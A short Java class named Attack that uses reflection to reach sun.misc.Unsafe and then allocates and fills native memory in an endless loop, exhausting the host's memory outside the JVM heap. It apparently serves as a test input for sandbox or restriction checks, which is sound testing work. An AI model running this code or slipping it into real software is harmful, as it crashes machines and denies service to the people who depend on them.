class Attack {
  static void attack() throws Throwable {
    java.lang.reflect.Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
    field.setAccessible(true);
    sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
    while (true) {
      long size = 4 << 20;
      unsafe.setMemory(unsafe.allocateMemory(size), size, (byte) 1);
    }
  }
}
